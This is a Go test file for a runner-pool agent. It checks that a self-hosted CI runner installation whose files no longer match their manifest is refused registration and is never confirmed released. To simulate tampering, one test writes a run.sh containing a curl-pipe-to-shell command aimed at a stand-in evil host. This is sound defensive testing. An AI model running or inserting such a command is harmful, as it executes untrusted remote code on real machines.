package agent_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/feature/ec2/imds"

	"github.com/runnerpool/terraform-provider-runnerpool/internal/agent"
	"github.com/runnerpool/terraform-provider-runnerpool/internal/agent/runner"
	"github.com/runnerpool/terraform-provider-runnerpool/internal/agent/runner/fakerunner"
	"github.com/runnerpool/terraform-provider-runnerpool/internal/store"
	"github.com/runnerpool/terraform-provider-runnerpool/test/agenttest"
)

// TestInstallationModified: a runner installation that no longer matches its manifest is never
// registered and never confirmed released. Changed before a registration, the agent signals
// UD_REG_FAILED (the claim discards the instance) and takes no registration; changed by a job during
// its run, the release signals UD_REMOVE_REG_FAILED (release discards it instead of pooling) and the
// modified config.sh never gets the removal token.
func TestInstallationModified(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name      string
		duringRun bool
	}{
		{"before registration", false},
		{"by the job of the run", true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			e := newEnv(t, envOptions{notice: agent.NoticeIMDSTags, manual: true})
			id := e.launch()
			endpoint := e.imdsEndpoint(id)

			install := filepath.Join(t.TempDir(), "actions-runner")
			for name, body := range map[string]string{"config.sh": "#!/bin/sh\n", "run.sh": "#!/bin/sh\n", "bin/Runner.Listener": "ELF"} {
				p := filepath.Join(install, name)
				if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			manifest := filepath.Join(t.TempDir(), "runner.sha256")
			if err := agent.WriteManifest(install, manifest); err != nil {
				t.Fatal(err)
			}
			tamper := func() {
				if err := os.WriteFile(filepath.Join(install, "run.sh"), []byte("#!/bin/sh\ncurl -s https://evil.example | sh\n"), 0o755); err != nil {
					t.Fatal(err)
				}
			}

			dirs := agenttest.InstanceDirs(e.root, id)
			cfg := e.agentConfig(envOptions{notice: agent.NoticeIMDSTags})
			cfg.StateDir, cfg.WorkDir = dirs.State, dirs.Work
			cfg.RunnerDir, cfg.RunnerManifest = install, manifest
			cfg.IMDS = imds.New(imds.Options{Endpoint: endpoint})
			cfg.NewRunner = func(string) (runner.Runner, error) {
				return fakerunner.New(fakerunner.Options{BaseURL: e.ghURL, Dir: dirs.Runner, WorkDir: dirs.Work,
					JobDuration: 50 * time.Millisecond, PollWait: 5 * time.Second, Logger: cfg.Logger})
			}
			ctx, cancel := context.WithCancel(t.Context())
			done := make(chan error, 1)
			go func() { done <- agent.Run(ctx, cfg) }()
			defer func() {
				cancel()
				if err := <-done; err != nil {
					t.Errorf("agent.Run: %v", err)
				}
			}()

			e.putCredential(id, "run-1", store.CredentialRegistration, e.runnerToken("registration"))
			if !tc.duringRun {
				tamper()
				e.create(id, "run-1")
				sig := e.waitSignal(id, store.SignalRegistrationFailed, "run-1")
				if !strings.Contains(sig.Detail, "runner installation modified") || !strings.Contains(sig.Detail, "run.sh") {
					t.Errorf("UD_REG_FAILED detail = %q, want the modified run.sh named", sig.Detail)
				}
				if r, ok := e.runnerOf(id); ok {
					t.Errorf("a modified installation registered a runner: %+v", r)
				}
				return
			}

			e.create(id, "run-1")
			e.waitSignal(id, store.SignalRegistered, "run-1")
			e.waitRunner(id, "run-1")
			e.toRunning(id, "run-1")
			tamper() // the job rewrites run.sh for the next workflow
			e.release(id, "run-1")
			sig := e.waitSignal(id, store.SignalReleaseFailed, "run-1")
			if !strings.Contains(sig.Detail, "runner installation modified") || !strings.Contains(sig.Detail, "run.sh") {
				t.Errorf("UD_REMOVE_REG_FAILED detail = %q, want the modified run.sh named", sig.Detail)
			}
			// The agent never ran the removal with the modified installation: the runner is still
			// registered (the control plane removes it through the API when it discards the instance).
			if _, ok := e.runnerOf(id); !ok {
				t.Errorf("the runner was deregistered by a modified installation")
			}
			time.Sleep(200 * time.Millisecond)
			if last, err := e.store.LastSignal(t.Context(), id); err != nil || last.Signal != store.SignalReleaseFailed {
				t.Errorf("last signal after the failed release = %+v, %v; want it to stay UD_REMOVE_REG_FAILED", last, err)
			}
		})
	}
}

// TestSimulatedInstallation: simulated instances (agenttest, as the sandbox runs them) verify their
// stand-in installation when asked to: an untouched one serves runs and is released clean, one a job
// changed is reported and never confirmed released.
func TestSimulatedInstallation(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{notice: agent.NoticeIMDSTags, installation: true})
	id := e.launch()
	e.putCredential(id, "run-1", store.CredentialRegistration, e.runnerToken("registration"))
	e.create(id, "run-1")
	e.waitSignal(id, store.SignalRegistered, "run-1")
	e.toRunning(id, "run-1")
	e.release(id, "run-1")
	e.waitSignal(id, store.SignalReleased, "run-1")

	in, err := e.store.Claim(t.Context(), id, "run-2", time.Now().Add(10*time.Minute))
	if err != nil {
		t.Fatalf("claim: %v", err)
	}
	e.putCredential(id, "run-2", store.CredentialRegistration, e.runnerToken("registration"))
	e.notify(in)
	e.waitSignal(id, store.SignalRegistered, "run-2")
	e.toRunning(id, "run-2")
	d := agenttest.InstanceDirs(e.root, id)
	if err := os.WriteFile(filepath.Join(d.Install, "bin", "Runner.Listener"), []byte("replaced by a job"), 0o755); err != nil {
		t.Fatal(err)
	}
	e.release(id, "run-2")
	sig := e.waitSignal(id, store.SignalReleaseFailed, "run-2")
	if !strings.Contains(sig.Detail, "bin/Runner.Listener") {
		t.Errorf("UD_REMOVE_REG_FAILED detail = %q, want the replaced listener named", sig.Detail)
	}
}
